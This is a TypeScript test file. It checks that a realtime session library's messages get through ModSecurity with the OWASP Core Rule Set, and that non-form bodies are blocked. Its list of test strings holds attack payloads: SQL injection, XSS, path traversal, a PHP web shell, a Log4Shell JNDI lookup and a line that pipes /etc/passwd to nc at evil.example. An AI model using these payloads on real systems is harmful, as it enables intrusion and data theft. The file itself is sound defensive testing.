import { beforeEach, describe, expect, it, vi } from 'vitest'
import { session } from '../../src/session/index.ts'
import { want } from '../support/equipment.ts'
import { type FirewallName, startFirewall } from '../support/firewall.ts'
import { pageAt } from '../support/page-like.ts'
import { randomSession, rawPost } from '../support/raw-client.ts'
import { RealtimeServers } from '../support/realtime-servers.ts'
import { sessionTransports, type TransportName } from '../support/session-rig.ts'
import { watchClient } from '../support/watched-client.ts'

/** Texts that firewall rules take for attacks. */
const texts = [
  'hello',
  'hello <script>alert(1)</script>',
  "' OR 1=1 --",
  '1 UNION SELECT password FROM users; DROP TABLE users;--',
  '../../../../etc/passwd',
  '; cat /etc/passwd | nc evil.example 1 `id` $(id)',
  '<?php system($_GET["x"]); ?>',
  `$${'{jndi:ldap://evil.example/a}'}`,
  'a\r\nSet-Cookie: x=1\r\n\r\n<html>',
  '-'.repeat(100_000),
  '--\r\n--\r\n----steadfast\n'.repeat(1000),
  '--steadfast\r\nContent-Disposition: form-data; name="a"\r\n\r\nx\r\n--steadfast--',
  '\0'.repeat(200),
  '"'.repeat(200_000),
  'a line\n'.repeat(40_000),
]
const bytes = new Uint8Array(200_000).map((_, index) => index * 7).buffer

const firewalls: readonly [FirewallName, number][] = [
  ['apache', 1],
  ['apache', 2],
  ['nginx', 1],
]

describe.each(firewalls)('ModSecurity in %s with the OWASP Core Rule Set, paranoia level %i', (name, level) => {
  beforeEach((context) => want(context, `ModSecurity in ${name}`))

  it.each(sessionTransports.map(({ type }) => type))('lets %s pass, whatever the messages say', async (type: TransportName) => {
    await using servers = await RealtimeServers.start({
      options: { onMessage: (session, { data }) => session.send(data), authenticate: () => ({ id: 'ann' }) },
    })
    await using firewall = await startFirewall(name, { port: servers.ports[0] ?? 0, level })
    const prepare = () => ({ auth: { token: 'x'.repeat(8754), note: "' OR 1=1 --" } })
    const host = pageAt(firewall.origin)
    const transports = [type === 'poll' ? { type, intervalMs: 100 } : type]
    await using page = watchClient(`${firewall.origin}/realtime`, { protocol: session(), transports, prepare, host })
    for (const each of [...texts, bytes]) page.client.send(each)
    const lost = () => JSON.stringify(page.of('error').map(({ diagnosis, undelivered }) => [diagnosis.cause, undelivered]))
    const isDone = () => expect(page.data.length + page.of('error').length).toBeGreaterThan(texts.length)
    await vi.waitFor(isDone, { timeout: 10_000, interval: 10 })
    expect(lost().slice(0, 2000)).toBe('[]')
    // Texts are compared by their index, so that a failure does not print hundreds of kilobytes.
    expect(page.data.map((each) => (typeof each === 'string' ? texts.indexOf(each) : 'bytes'))).toEqual([
      ...texts.keys(),
      'bytes',
    ])
    expect(page.data.at(-1)).toEqual(bytes)
  })

  it('answers 403 to a request body that is not a form', async () => {
    await using servers = await RealtimeServers.start()
    await using firewall = await startFirewall(name, { port: servers.ports[0] ?? 0, level })
    const response = await rawPost(`${firewall.origin}/realtime`, { session: randomSession(), wait: 0 })
    expect(response.status).toBe(403)
    // ModSecurity writes its log after the response has been sent.
    await vi.waitFor(() => expect(firewall.rules()).toEqual(expect.arrayContaining(['920420', '949110'])), { timeout: 5000 })
  })
})
